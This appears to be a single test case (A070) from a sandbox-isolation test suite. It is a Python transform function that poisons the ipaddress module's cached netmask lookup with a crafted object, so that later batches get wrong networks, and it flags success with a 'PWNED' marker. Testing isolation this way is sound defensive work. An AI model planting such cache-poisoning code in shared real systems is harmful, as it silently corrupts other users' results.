# id: A070
# goal: leave a lying key in a cache of the standard library, so that the next batch gets other networks
import ipaddress


class Mask:
    def __hash__(self):
        return hash("25")

    def __eq__(self, other):
        return True

    def isascii(self):
        return True

    def isdigit(self):
        return True

    def __int__(self):
        return 8


def transformEvent(event, metadata):
    if event["messageId"] == "1":
        ipaddress.IPv4Network(("10.0.0.0", Mask()), strict=False)
        return event
    found = str(ipaddress.ip_network("10.1.2.0/25", strict=False))
    return {"x": event["messageId"] if found == "10.1.2.0/25" else "PWNED-A070 " + found}
